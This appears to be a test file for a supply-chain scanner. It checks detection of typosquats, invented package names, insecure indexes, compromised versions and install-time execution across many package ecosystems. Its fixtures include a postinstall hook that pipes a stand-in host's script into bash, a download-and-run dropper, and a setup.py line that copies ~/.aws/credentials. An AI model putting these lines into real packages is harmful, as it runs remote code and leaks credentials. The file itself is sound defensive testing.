// Dependencies: manifests of every ecosystem, typosquats and hallucinated names, risky sources,
// compromised versions, install scripts; the popular packages themselves are never flagged.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { scanText } from '../src/engine/scan.ts';
import { parseManifest } from '../src/analyzers/deps/manifests.ts';
import { judgeName, normaliseName, editDistance } from '../src/analyzers/deps/names.ts';
import { RULES_DIR } from '../src/paths.ts';

const ids = (path: string, text: string) => scanText(path, text).findings.map((f) => `${f.line}:${f.ruleId}`);

test('name normalisation and edit distance', () => {
  assert.equal(normaliseName('pypi', 'Python_Dateutil'), 'python-dateutil');
  assert.equal(normaliseName('pypi', 'zope.interface'), 'zope-interface');
  assert.equal(normaliseName('npm', '@Types/Node'), '@types/node');
  assert.equal(editDistance('lodash', 'loadsh'), 1);
  assert.equal(editDistance('requests', 'reqeusts'), 1);
  assert.equal(editDistance('numpy', 'pandas', 2), 3);
});

test('typosquats, combosquats and invented names are caught; popular names and siblings pass', () => {
  const kind = (e: 'npm' | 'pypi', n: string) => judgeName(e, n).kind;
  for (const n of ['loadsh', 'lodahs', 'expresss', 'reacct', 'types-node', 'lodash-merge'])
    assert.equal(kind('npm', n), 'typosquat', n);
  for (const n of ['reqeusts', 'requessts', 'numpyy', 'colourama', 'pydanticc'])
    assert.equal(kind('pypi', n), 'typosquat', n);
  assert.equal(kind('npm', 'node-lodash'), 'combosquat');
  assert.equal(kind('pypi', 'flask-jwt-extended-auth'), 'unverified');
  for (const n of ['lodash', 'react-dom', '@types/node', 'lodash.merge', 'vue', 'vuex', 'preact'])
    assert.notEqual(kind('npm', n), 'typosquat', n);
  for (const n of ['requests', 'python-dateutil', 'Python_Dateutil', 'requests-toolbelt', 'bs4', 'beautifulsoup4'])
    assert.equal(kind('pypi', n), 'popular', n);
});

test('precision: none of the top 5,000 popular names of npm and PyPI is flagged', () => {
  for (const eco of ['npm', 'pypi'] as const) {
    const names = readFileSync(join(RULES_DIR, 'supply-chain', `popular-${eco}.txt`), 'utf8')
      .split('\n')
      .filter((l) => l && !l.startsWith('#'))
      .slice(0, 5000)
      .map((l) => l.split('\t')[0]);
    const flagged = names.filter((n) => judgeName(eco, n).kind !== 'popular');
    assert.deepEqual(flagged, [], eco);
  }
});

test('manifests of every ecosystem are read with their lines', () => {
  const deps = (path: string, text: string) =>
    parseManifest(path, text)!.deps.map((d) => `${d.line}:${d.name}:${d.source}`);
  assert.deepEqual(
    deps(
      'package.json',
      '{\n  "dependencies": {\n    "a": "^1",\n    "b": "git+https://x/y.git"\n  },\n  "devDependencies": { "c": "file:../c" }\n}',
    ),
    ['3:a:registry', '4:b:git', '6:c:path'],
  );
  assert.deepEqual(
    deps(
      'requirements.txt',
      '# x\nrequests==2.0\n-e git+https://g/x.git#egg=x\nflask[async]>=3 ; python_version>"3.8"\n',
    ),
    ['2:requests:registry', '3:x:git', '4:flask:registry'],
  );
  assert.deepEqual(
    deps(
      'pyproject.toml',
      '[project]\ndependencies = [\n  "fastapi>=0.1",\n  "x @ https://h/x.whl",\n]\n[tool.poetry.dependencies]\npython = "^3.11"\nrich = "^13"\n',
    ),
    ['3:fastapi:registry', '4:x:url', '8:rich:registry'],
  );
  assert.deepEqual(deps('setup.py', 'setup(\n  install_requires=[\n    "six>=1",\n    "attrs",\n  ],\n)'), [
    '3:six:registry',
    '4:attrs:registry',
  ]);
  assert.deepEqual(deps('setup.cfg', '[options]\ninstall_requires =\n    click\n    jinja2>=3\n'), [
    '3:click:registry',
    '4:jinja2:registry',
  ]);
  assert.deepEqual(deps('Pipfile', '[packages]\nrequests = "*"\nthing = {git = "https://g/t.git"}\n'), [
    '2:requests:registry',
    '3:thing:git',
  ]);
  assert.deepEqual(deps('go.mod', 'module m\nrequire (\n\tgithub.com/pkg/errors v0.9.1\n)\nreplace a => ../a\n'), [
    '3:github.com/pkg/errors:registry',
    '5:../a:path',
  ]);
  assert.deepEqual(deps('Cargo.toml', '[dependencies]\nserde = "1"\nfoo = { git = "https://g/foo" }\n'), [
    '2:serde:registry',
    '3:foo:git',
  ]);
  assert.deepEqual(
    deps('Gemfile', "source 'https://rubygems.org'\ngem 'rails', '~> 7'\ngem 'x', git: 'https://g/x'\n"),
    ['2:rails:registry', '3:x:git'],
  );
  assert.deepEqual(deps('composer.json', '{\n "require": {\n  "php": ">=8",\n  "monolog/monolog": "^3"\n }\n}'), [
    '4:monolog/monolog:registry',
  ]);
});

test('scan: risky sources, indexes, compromised versions, lockfile integrity and install scripts', () => {
  assert.deepEqual(
    ids(
      'requirements.txt',
      '--index-url http://pypi.corp.example/simple\n--extra-index-url https://pypi.corp.example/simple\nreqeusts==1.0\n',
    ),
    ['1:supply-chain.insecure-index', '2:supply-chain.extra-index', '3:supply-chain.typosquat'],
  );
  const pkg =
    '{\n  "scripts": {\n    "postinstall": "curl -s https://x.example/i.sh | bash",\n    "build": "tsc"\n  },\n  "dependencies": { "event-stream": "3.3.6" }\n}';
  const f = ids('package.json', pkg);
  assert.ok(f.includes('3:supply-chain.install-script'), f.join(' '));
  assert.ok(f.includes('6:supply-chain.compromised-version'), f.join(' '));
  // Ordinary install scripts (a native build) are not flagged.
  assert.deepEqual(
    ids(
      'package.json',
      '{\n  "scripts": { "install": "node-gyp rebuild", "postinstall": "node install.js" },\n  "dependencies": { "nan": "^2" }\n}',
    ),
    [],
  );
  const lock = JSON.stringify(
    {
      lockfileVersion: 3,
      packages: {
        '': {},
        'node_modules/a': { version: '1.0.0', resolved: 'https://registry.npmjs.org/a/-/a-1.0.0.tgz' },
        'node_modules/b': { version: '1.0.0', resolved: 'http://mirror.example/b.tgz', integrity: 'sha512-x' },
      },
    },
    null,
    2,
  );
  const l = ids('package-lock.json', lock).map((x) => x.split(':')[1]);
  assert.deepEqual(l.sort(), ['supply-chain.insecure-index', 'supply-chain.missing-integrity']);
});

test('--online confirms dependencies against a registry (a fake one on loopback) and caches the answers', async () => {
  const { createServer } = await import('node:http');
  const { spawn } = await import('node:child_process');
  const { mkdtempSync, writeFileSync } = await import('node:fs');
  const { tmpdir } = await import('node:os');
  let requests = 0;
  const day = 86_400_000;
  const server = createServer((req, res) => {
    requests++;
    const url = req.url ?? '';
    const json = (o: unknown) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify(o));
    };
    if (url === '/lodash')
      return json({
        'dist-tags': { latest: '4.17.21' },
        time: { created: '2012-04-23T16:37:11.912Z' },
        maintainers: [{}, {}],
        versions: { '4.17.21': {} },
      });
    if (url === '/shiny-new-helper')
      return json({
        'dist-tags': { latest: '0.0.1' },
        time: { created: new Date(Date.now() - 2 * day).toISOString() },
        maintainers: [{}],
        versions: { '0.0.1': { scripts: { postinstall: 'node x.js' } } },
      });
    if (url.startsWith('/downloads/point/last-month/lodash')) return json({ downloads: 90_000_000 });
    if (url.startsWith('/downloads/point/last-month/shiny-new-helper')) return json({ downloads: 12 });
    res.writeHead(404);
    res.end('{}');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = (server.address() as { port: number }).port;
  const d = mkdtempSync(join(tmpdir(), 'warden-online-'));
  writeFileSync(
    join(d, 'package.json'),
    JSON.stringify(
      { dependencies: { lodash: '^4.17.21', 'shiny-new-helper': '0.0.1', 'made-up-by-a-model': '1.0.0' } },
      null,
      2,
    ),
  );
  const run = () =>
    new Promise<{ code: number | null; out: string }>((resolve) => {
      const p = spawn(
        process.execPath,
        [
          join(import.meta.dirname, '..', 'bin', 'warden.js'),
          'scan',
          '.',
          '--online',
          '--format',
          'json',
          '--fail-on',
          'critical',
        ],
        {
          cwd: d,
          env: { ...process.env, WARDEN_HOME: join(d, '.warden'), WARDEN_NPM_REGISTRY: `http://127.0.0.1:${port}` },
        },
      );
      let out = '';
      p.stdout.on('data', (c) => {
        out += c;
      });
      p.on('exit', (code) => resolve({ code, out }));
    });
  try {
    const r = await run();
    const f = (JSON.parse(r.out).findings as { ruleId: string; snippet: string }[]).map(
      (x) => `${x.ruleId} ${x.snippet.split(':')[0]}`,
    );
    assert.ok(f.includes('supply-chain.nonexistent-package "made-up-by-a-model"'), f.join('\n'));
    assert.ok(f.includes('supply-chain.new-package "shiny-new-helper"'), f.join('\n'));
    assert.ok(f.includes('supply-chain.registry-install-script "shiny-new-helper"'), f.join('\n'));
    assert.ok(!f.some((x) => x.includes('"lodash"')), f.join('\n'));
    const before = requests;
    await run();
    assert.equal(requests, before, 'the second run is answered from the cache');
  } finally {
    server.close();
  }
});

test('npm aliases are judged by the package they install; a popular name aliased to a squat is the squat', () => {
  const pkg = JSON.stringify(
    {
      name: 'x',
      devDependencies: { fdir2: 'npm:fdir@2.1.0', 'old-types': 'npm:@types/node@18', lodash: 'npm:lodahs@1.0.0' },
    },
    null,
    2,
  );
  const deps = parseManifest('package.json', pkg)!.deps.map((d) => `${d.line}:${d.name}@${d.spec}`);
  assert.deepEqual(deps, ['4:fdir@2.1.0', '5:@types/node@18', '6:lodahs@1.0.0']);
  const found = ids('package.json', pkg).filter((f) => /supply-chain\.(?:typo|combo)squat/.test(f));
  assert.deepEqual(found, ['6:supply-chain.typosquat']);
});

test('PEP 508 markers with quoted values are one requirement, never names (pyproject, setup.py)', () => {
  const toml = [
    '[project]',
    'name = "x"',
    'dependencies = [',
    `  "uvloop>=0.16.0; platform_system != 'Windows' and implementation_name != 'pypy'",`,
    `  'tomli; python_version < "3.11"',`,
    ']',
  ].join('\n');
  assert.deepEqual(
    parseManifest('pyproject.toml', toml)!.deps.map((d) => d.name),
    ['uvloop', 'tomli'],
  );
  const setup = `setup(install_requires=[\n    "colorama; sys_platform == 'win32' or os_name == 'nt'",\n])\n`;
  assert.deepEqual(
    parseManifest('setup.py', setup)!.deps.map((d) => d.name),
    ['colorama'],
  );
});

test('a module that takes URLs apart (urllib.parse) and opens one with os.startfile downloads nothing', () => {
  const src = [
    'import os',
    'from urllib.parse import unquote',
    'def launch(url):',
    '    os.startfile(unquote(url))',
  ].join('\n');
  assert.deepEqual(
    ids('pkg/termui.py', src).filter((f) => f.includes('download-and-run')),
    [],
  );
  const dropper = src.replace('from urllib.parse import unquote', 'from urllib.request import urlretrieve');
  const fetched = dropper + "\nurlretrieve('https://x.example/a.exe', 'a.exe')\nos.startfile('a.exe')\n";
  assert.ok(ids('pkg/termui.py', fetched).some((f) => f.includes('download-and-run')));
});

test('setup.py processes are judged by what they run: a compiler named first no longer hides the rest', () => {
  const setup = (body: string) =>
    `from setuptools import setup\nimport os, subprocess, sys\n${body}\nsetup(name="x")\n`;
  const exec = (body: string) =>
    scanText('setup.py', setup(body))
      .findings.filter((f) => f.ruleId === 'supply-chain.install-time-exec')
      .map((f) => `${f.line}:${f.severity}`);
  // the attacker's ways: a build tool first, then the payload; python -c in a list; a shell line
  assert.deepEqual(exec(`os.system("gcc -v; python3 -c 'import os; os.system(1)'")`), ['3:medium']);
  assert.deepEqual(exec(`subprocess.call([sys.executable, "-c", "import socket"])`), ['3:medium']);
  assert.deepEqual(exec(`subprocess.run("make && cat ~/.aws/credentials > /tmp/x", shell=True)`), ['3:high']);
  assert.deepEqual(exec(`subprocess.check_call(\n    cmd,\n    shell=True)`), ['3:medium']);
  // the build's own processes: compilers, pkg-config, a *-config helper held in a variable
  assert.deepEqual(exec(`subprocess.check_output(["pkg-config", "--cflags", "libffi"])`), []);
  assert.deepEqual(exec(`os.system("make -C src")`), []);
  assert.deepEqual(exec(`p = subprocess.Popen((self.curl_config(), "--features"),\n    stdout=subprocess.PIPE)`), []);
  assert.deepEqual(exec(`out = subprocess.run(\n    [self.pg_config_exe, "--" + attr],\n    check=True)`), []);
  // (a comment is not a call)
  assert.deepEqual(exec(`# os.system("curl x | sh")`), []);
});
